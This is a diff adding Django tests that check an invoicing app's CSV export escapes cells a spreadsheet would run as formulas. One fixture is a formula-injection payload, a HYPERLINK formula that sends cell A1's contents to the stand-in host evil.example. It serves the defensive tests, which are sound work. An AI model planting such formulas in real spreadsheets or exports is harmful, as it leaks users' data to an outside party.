@@ -11,7 +11,9 @@ from typing import Any
 import pytest
 from django.utils import timezone
 
+from invoicing import selectors
 from invoicing.models import Invoice, InvoiceKind
+from tests.bookings.helpers import VALID_SIRET
 from tests.conftest import assert_problem
 from tests.invoicing.helpers import confirmed_booking, issue
 
@@ -70,3 +72,38 @@ def test_export_period_excludes_other_days_and_checks_dates(staff_api: Any) -> N
     assert_problem(
         staff_api.get("/api/v1/invoices/export.csv?from=yesterday"), 400, "validation_error", "from"
     )
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@"])
+def test_export_escapes_cells_that_a_spreadsheet_would_run_as_formulas(
+    staff_api: Any, lead: str
+) -> None:
+    name = f'{lead}HYPERLINK("http://evil.example/?"&A1,"Mairie")'
+    booking = confirmed_booking(
+        organisation={"name": name, "type": "public_body", "siret": VALID_SIRET}
+    )
+    issue(staff_api, booking, "full")
+    response = staff_api.get("/api/v1/invoices/export.csv")
+    (row,) = csv.DictReader(io.StringIO(response.content.decode()))
+    # The text is kept, behind a quote that makes it text for the spreadsheet.
+    assert row["buyer"] == "'" + name
+    # Amounts stay numbers, even negative ones (credit notes) that begin with a minus.
+    assert Decimal(row["total_incl_vat"]) > 0
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+33 6 00", "'+33 6 00"),
+        ("-2", "'-2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tcmd", "'\tcmd"),
+        ("\rcmd", "'\rcmd"),
+        ("Mairie d'Arras", "Mairie d'Arras"),
+        ("", ""),
+    ],
+)
+def test_text_cells_that_would_be_formulas_are_quoted(value: str, cell: str) -> None:
+    # The API trims leading tabs and carriage returns, so they are checked here, on the cell.
+    assert selectors.csv_text(value) == cell
